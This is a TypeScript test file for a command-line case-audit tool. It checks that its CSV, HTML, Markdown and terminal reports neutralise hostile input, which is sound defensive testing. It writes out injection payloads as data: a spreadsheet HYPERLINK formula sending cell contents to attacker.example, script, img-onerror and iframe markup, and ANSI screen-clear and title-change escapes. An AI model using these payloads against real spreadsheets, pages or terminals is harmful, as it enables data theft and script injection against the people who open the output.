import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { caseaudit } from './cli.js';

/**
 * A file caseaudit reads must not attack the person who opens its report. hostile-values.csv and
 * hostile-cases.csv put a formula, markup and terminal escape sequences in every field that comes
 * from the data: case id, note, officer (on events and on the case), attribute values (risk_score,
 * housing_area), team, category and landlord. Each output is checked through the real
 * `audit --format ...` path.
 */

const INPUTS = ['tests/fixtures/bad/hostile-values.csv', 'tests/fixtures/bad/hostile-cases.csv'];
const ESC = '\u001b';
const audit = (format: string, ...more: string[]) => caseaudit(['audit', ...INPUTS, '--as-of', '2024-11-21', '--format', format, ...more]);

const CASE_IDS = ['=HYPERLINK("http://attacker.example/?"&A1,"open")', '+SUM(1+1)', '-2+3', '@SUM(A1:A9)', '<script>alert("case")</script>', `ASB-${ESC}[2J${ESC}[31mRED`];

/** Markup from the data, as written in the fixtures: none of it may reach an HTML report raw. */
const MARKUP = ['<script>alert("case")</script>', '<img src=x onerror=alert(0)>', '<iframe src=//attacker.example>', '<svg onload=alert(1)>', '<u>north</u>', '<marquee>HA</marquee>', '<i>Officer', '<b>9</b>', '<hr>'];

/** Any C0/C1 control other than tab and line breaks, and the BiDi overrides. */
const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('CSV report: formula injection', () => {
  it('every cell that starts with = + - @ (case ids and any other value) is made text with a leading quote', async () => {
    const r = await audit('csv');
    expect(r.code).toBe(1);
    const rows = parse(r.stdout.replace(/^\uFEFF/, ''), { relax_quotes: false }) as string[][];
    expect(rows[0]![0]).toBe('case_id');
    const cells = rows.slice(1).flat();
    expect(cells.length).toBeGreaterThan(100);
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    // Every hostile case id is there, neutralised (the one with escapes loses them).
    const caseIds = new Set(rows.slice(1).map((row) => row[0]));
    expect([...caseIds].sort()).toEqual(["'+SUM(1+1)", "'-2+3", '<script>alert("case")</script>', '\'=HYPERLINK("http://attacker.example/?"&A1,"open")', "'@SUM(A1:A9)", 'ASB-RED'].sort());
    expect(r.stdout).not.toMatch(CONTROL);
  });

  it('the neutralised cells survive a round trip through a CSV parser unchanged (quoting is right)', async () => {
    const r = await audit('csv');
    const rows = parse(r.stdout.replace(/^\uFEFF/, '')) as string[][];
    const width = rows[0]!.length;
    for (const row of rows) expect(row).toHaveLength(width);
  });
});

describe('HTML report: escaping', () => {
  it('no markup from the data reaches the page raw; what is shown is shown escaped', async () => {
    const r = await audit('html');
    expect(r.code).toBe(1);
    const html = r.stdout;
    for (const raw of MARKUP) expect(html, raw).not.toContain(raw);
    // The fields the page shows are there, as text: case id, note, officers, team, category, landlord.
    expect(html).toContain('&lt;script&gt;alert(&quot;case&quot;)&lt;/script&gt;');
    expect(html).toContain('&lt;img src=x onerror=alert(0)&gt;');
    expect(html).toContain('&lt;iframe src=//attacker.example&gt;');
    expect(html).toContain('&lt;svg onload=alert(1)&gt;');
    expect(html).toContain('=TEAM()&amp;&quot;&lt;u&gt;north&lt;/u&gt;&quot;');
    expect(html).toContain('&lt;marquee&gt;HA&lt;/marquee&gt;');
    expect(html).toContain('&lt;i&gt;Officer &lt;/i&gt;');
    // The only scripts are the report's own: as many <script> tags as a report of clean data has.
    const clean = await caseaudit(['audit', 'samples/events.csv', 'samples/cases.csv', '--as-of', '2024-11-21', '--format', 'html']);
    const scripts = (s: string) => (s.match(/<script\b/gi) ?? []).length;
    expect(scripts(html)).toBe(scripts(clean.stdout));
  });

  it('no control character or escape sequence from the data reaches the page', async () => {
    const html = (await audit('html')).stdout;
    expect(html).not.toMatch(CONTROL);
    expect(html).not.toContain('pwned');
    expect(html).toContain('ASB-RED');
  });
});

describe('Markdown report', () => {
  it('no raw markup or escape sequence from the data', async () => {
    const md = (await audit('md')).stdout;
    for (const raw of MARKUP) expect(md, raw).not.toContain(raw);
    expect(md).toContain('&lt;svg onload=alert\\(1\\)&gt;');
    expect(md).not.toMatch(CONTROL);
  });
});

describe('terminal report: control characters stripped', () => {
  it('an ANSI escape in a case id, a note, an officer or a category never reaches stdout (no colour)', async () => {
    const r = await audit('text');
    expect(r.code).toBe(1);
    expect(r.stdout).not.toContain(ESC);
    expect(r.stdout).not.toMatch(CONTROL);
    expect(r.stdout).toContain('Case ASB-RED');
    expect(r.stdout).not.toContain('pwned');
  });

  it('on a colour terminal only the report\'s own colours are sent: no screen clear, cursor move or title change', async () => {
    let out = '';
    const r = await caseaudit(['audit', ...INPUTS, '--as-of', '2024-11-21', '--format', 'text'], { stdout: { write: (s: string) => void (out += s), isTTY: true } });
    expect(r.code).toBe(1);
    expect(out).toContain(ESC); // colour is on
    expect(out).not.toContain(`${ESC}[2J`);
    expect(out).not.toContain(`${ESC}[1A`);
    expect(out).not.toContain(`${ESC}]`);
    expect(out).not.toContain('[31mRED');
  });

  it('timeline --format text strips them from notes and officers too', async () => {
    for (const caseId of CASE_IDS) {
      const r = await caseaudit(['timeline', ...INPUTS, '--case', caseId, '--as-of', '2024-11-21']);
      expect(r.code, caseId).toBe(0);
      expect(r.stdout, caseId).toContain('recoloured');
      expect(r.stdout, caseId).not.toMatch(CONTROL);
      expect(r.stdout, caseId).not.toContain('pwned');
    }
  });

  it('an error message that quotes the input strips them too (stderr is a terminal as well)', async () => {
    const r = await caseaudit(['audit', ...INPUTS, '--as-of', '2024-11-21', '--case', `X${ESC}]0;pwned${ESC}\\${ESC}[2J`]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^caseaudit: no case X in the inputs/);
    expect(r.stderr).not.toMatch(CONTROL);
  });
});
